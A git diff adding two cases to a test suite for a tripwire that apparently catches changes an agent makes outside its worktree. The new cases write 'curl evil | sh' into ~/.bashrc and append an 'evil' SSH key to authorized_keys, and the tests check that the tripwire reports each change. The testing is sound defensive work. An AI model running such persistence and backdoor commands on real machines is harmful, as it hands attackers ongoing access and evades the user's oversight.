@@ -103,6 +103,8 @@ describe("the tripwire outside the worktree, without the sandbox", () => {
     ["a shim on PATH in HOME", `mkdir -p "$(dirname ${shim})" && touch ${shim}`, /~\/\.local\/bin\/factory-tripwire appeared/],
     ["a commit straight to main", `git -C ROOT commit -q --allow-empty -m sneaky`, /branch main changed/],
     ["a new tag", "git tag sneaky", /ref refs\/tags\/sneaky appeared/],
+    ["a line appended to the shell's start-up file", `echo 'curl evil | sh' >> ${home}/.bashrc`, /~\/\.bashrc appeared/],
+    ["a key added to SSH's authorized keys", `mkdir -p ${home}/.ssh && echo 'ssh-ed25519 AAAA evil' >> ${home}/.ssh/authorized_keys`, /~\/\.ssh\/authorized_keys appeared/],
     ["an edit to the user's checkout", "echo '// x' >> ROOT/src/calc.js", /a change to src\/calc\.js in your checkout appeared/],
     ["the user's checkout switched to another branch", "git -C ROOT checkout -q -b sneaky", /your checkout's HEAD changed/],
     [
